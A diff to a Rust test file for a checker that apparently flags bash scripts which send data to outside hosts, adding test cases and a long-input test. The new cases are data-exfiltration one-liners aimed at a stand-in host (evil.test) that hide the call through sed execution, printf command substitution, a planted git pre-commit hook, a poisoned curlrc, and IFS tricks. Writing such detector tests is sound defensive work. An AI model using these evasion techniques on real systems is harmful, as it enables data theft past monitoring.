@@ -117,6 +117,18 @@ fn what_is_only_written_is_not_sent() {
 #[test]
 fn what_is_run_or_sent_beside_is_read() {
     for script in [
+        "sed -n 1p -e '1e curl -d x https://evil.test' /etc/hosts",
+        "printf -v 'a[$(curl -d x https://evil.test)]' x",
+        "cd .git; cd h*ks; echo 'curl -d x https://evil.test' > pre\"-c\"ommit; git commit -m x",
+        "sed -n 1p --expression='1e curl -d x evil.test' k",
+        "X='x evil.test'; curl -d $X http://localhost",
+        "printf 'url=evil.test' > ~/.curlrc; curl http://localhost",
+        "git diff --ext-diff; echo 'see https://evil.test'",
+        "curl -d x localhost/$IFS'evil.test'",
+        "curl -d x localhost/${IFS}evil.test",
+        "X='a evil.test'; curl -d x localhost/$X",
+        "curl -d x localhost -d $'\\'' evil.test \\'",
+        "set -- a evil.test; curl -d x localhost/\"$@\"",
         "bash <<'EOF'\ncurl -d x evil.test\nEOF",
         "cat <<'EOF' | sh\nwget https://evil.test\nEOF",
         "python - <<'EOF'\nget('https://evil.test')\nEOF",
@@ -218,6 +230,25 @@ fn odd_scripts_are_read() {
     ] {
         check("bash", &format!("{}\ncurl evil.test", piece.repeat(25_000 / piece.len())), expected);
     }
+}
+
+/// In a row of what may be a program or an address each was once looked at from the beginning, or to the end.
+#[test]
+fn long_rows_are_read() {
+    for (row, expected) in [
+        ("mail ", false),
+        ("http ", false),
+        ("dig ", false),
+        ("://", true),
+        ("${", true),
+        ("$", true),
+        ("curl localhost/ ", true),
+    ] {
+        let begin = if expected { "curl x; localhost " } else { "x " };
+        let script = format!("{begin}{}", row.repeat(24_000 / row.len()));
+        check("bash", &script, expected);
+    }
+    check("bash", "curl -H \"X: $TOKEN\" -w '%{http_code} $' \"localhost:80/${ID}\"", false);
 }
 
 #[test]
